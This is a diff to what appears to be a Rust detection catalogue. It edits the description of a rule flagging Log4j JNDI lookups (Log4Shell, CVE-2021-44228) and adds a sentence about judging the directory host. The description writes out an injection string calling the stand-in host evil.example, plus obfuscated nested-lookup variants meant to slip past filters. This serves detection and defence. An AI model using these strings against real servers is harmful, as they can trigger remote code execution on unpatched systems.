@@ -480,7 +480,7 @@ catalogue! {
     JndiLookup {
         code: "jndi-lookup",
         severity: High,
-        summary: "A Log4j lookup of a JNDI name (${jndi:ldap://evil.example/a}, its letters also when nested lookups spell them: ${${lower:j}ndi:...}, ${${::-j}...}): a server running Log4j 2 before 2.15 that logs the URL asks the named directory for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell).",
+        summary: "A Log4j lookup of a JNDI name (${jndi:ldap://evil.example/a}, its letters also when nested lookups spell them: ${${lower:j}ndi:...}, ${${::-j}...}): a server running Log4j 2 before 2.15 that logs the URL asks the named directory for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell). The directory is a destination, its host judged as any carried URL's (a loopback or metadata address, a look-alike).",
         consequence: None,
         signals: [Lookup, Percent],
     }
